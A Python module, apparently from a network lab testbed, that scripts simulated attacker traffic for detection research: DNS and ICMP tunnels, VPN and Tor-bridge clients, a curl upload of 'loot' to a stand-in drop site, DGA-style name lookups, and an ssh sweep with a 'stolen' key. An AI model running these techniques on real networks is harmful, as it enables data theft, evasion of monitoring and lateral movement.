"""Deeds of a host that talks past the segment's rules: tunnels, VPNs, Tor, stolen files, generated names."""

from __future__ import annotations

import random
import time

from .attack import Deed
from .farside import (
    DNS_INNER,
    DNS_TUNNEL,
    OPENVPN_PORT,
    PASSWORD,
    TOR_PORT,
    VPN_INNER,
    WIREGUARD_INNER,
    WIREGUARD_PORT,
    raise_wireguard,
)
from .plan import RESOLVER, host
from .staff import curl, ssh
from .town import Town, stop

TORRC = """
SocksPort 0
UseBridges 1
Bridge {address}:{port}
DataDirectory {folder}
Log notice stdout
"""


def dns_tunnel(where: str, seconds: float) -> Deed:
    """iodine through the town's resolver: idle, then a shell with some output, then idle again."""

    def run(town: Town, left: float) -> None:
        client = town.spawn(where, "iodine", "-f", "-r", "-P", PASSWORD, RESOLVER, DNS_TUNNEL)
        _use(town, where, DNS_INNER, min(seconds, left), "seq 500; sleep 3")
        stop(client)

    return run


def icmp_tunnel(where: str, seconds: float) -> Deed:
    """ptunnel-ng carries an ssh session inside echo requests."""

    def run(town: Town, left: float) -> None:
        far = host("icmpout").address
        client = town.spawn(where, "ptunnel-ng", f"-p{far}", "-l2222", "-r127.0.0.1", "-R22")
        end = time.monotonic() + min(seconds, left)
        time.sleep(2)
        while time.monotonic() < end:
            ssh(town, where, "127.0.0.1", "for i in 1 2 3 4 5 6; do seq 800; sleep 1; done", "-p", "2222")
        stop(client)

    return run


def openvpn(where: str, seconds: float) -> Deed:
    """An OpenVPN client, and a shell through it."""

    def run(town: Town, left: float) -> None:
        cert = town.folder / "client.freevpn.example.crt"
        client = town.spawn(where, "openvpn", "--dev", "tun", "--proto", "udp", "--nobind", "--remote",
                            "gw.freevpn.example", OPENVPN_PORT, "--tls-client", "--ca", str(town.folder / "ca.crt"),
                            "--cert", str(cert), "--key", str(town.folder / "servers.key"),
                            "--ifconfig", "172.16.98.2", VPN_INNER, "--keepalive", "5", "60")  # fmt: skip
        _use(town, where, VPN_INNER, min(seconds, left), "seq 20000")
        stop(client)

    return run


def wireguard(where: str, seconds: float) -> Deed:
    """A WireGuard client, and a shell through it."""

    def run(town: Town, left: float) -> None:
        far = (town.folder / "wg.far.pub").read_text()
        endpoint = f"{host('vpn').address}:{WIREGUARD_PORT}"
        device = raise_wireguard(town, where, "near", "172.16.97.2/24", "peer", far, "endpoint", endpoint,
                        "allowed-ips", "172.16.97.0/24", "persistent-keepalive", "5")  # fmt: skip
        _use(town, where, WIREGUARD_INNER, min(seconds, left), "seq 20000")
        town.run(where, "ip", "link", "delete", device)

    return run


def _use(town: Town, where: str, inner: str, seconds: float, work: str) -> None:
    """Wait for a tunnel's far end, then ping it and work over it by turns."""
    end = time.monotonic() + seconds
    while time.monotonic() < end and town.run(where, "ping", "-c1", "-W2", inner).returncode:
        time.sleep(0.5)
    while time.monotonic() < end:
        ssh(town, where, inner, work)
        town.run(where, "ping", "-c4", "-i0.5", inner)


def tor(where: str, seconds: float) -> Deed:
    """A Tor client that knows one bridge: link handshakes and directory requests."""

    def run(town: Town, left: float) -> None:
        folder = town.folder / f"tor.{where}"
        folder.mkdir(mode=0o700)
        conf = town.folder / f"{where}.torrc"
        conf.write_text(TORRC.format(folder=folder, port=TOR_PORT, address=host("bridge").address))
        client = town.spawn(where, "tor", "-f", str(conf))
        time.sleep(min(seconds, left))
        stop(client)

    return run


def upload(where: str, megabytes: float, name: str) -> Deed:
    """A file that does not compress, put on the drop site over TLS 1.3."""

    def run(town: Town, _: float) -> None:
        loot = town.folder / f"loot.{where}"
        loot.write_bytes(random.Random(where).randbytes(int(megabytes * 1e6)))
        curl(town, where, "--http1.1", "-T", str(loot), f"https://files.dropzone.example/upload/{name}", timeout=90)

    return run


def generated_names(where: str, count: int, gap: float) -> Deed:
    """Look for the day's meeting point among generated names, none of which exists."""

    def run(town: Town, _: float) -> None:
        rng = random.Random(20261122)
        for _ in range(count):
            label = "".join(rng.choices("abcdefghijklmnopqrstuvwxyz", k=rng.randint(11, 18)))
            town.run(where, "dig", "+short", "+tries=1", f"{label}.example", "A")
            time.sleep(rng.uniform(0.3, 1.7) * gap)

    return run


def odd_port(where: str, seconds: float) -> Deed:
    """A shell on a host outside, by ssh on a port that is not its own."""

    def run(town: Town, left: float) -> None:
        work = f"for i in $(seq {int(min(seconds, left))}); do date; sleep 1; done"
        ssh(town, where, host("vpn").address, work, "-p", "8443")

    return run


def ssh_fan_out(where: str, targets: tuple[str, ...]) -> Deed:
    """Try a stolen key on one neighbour after the other; most have no ssh server."""

    def run(town: Town, _: float) -> None:
        for target in targets:
            ssh(town, where, host(target).address, "id", "-o", "ConnectTimeout=3")
            time.sleep(0.4)

    return run
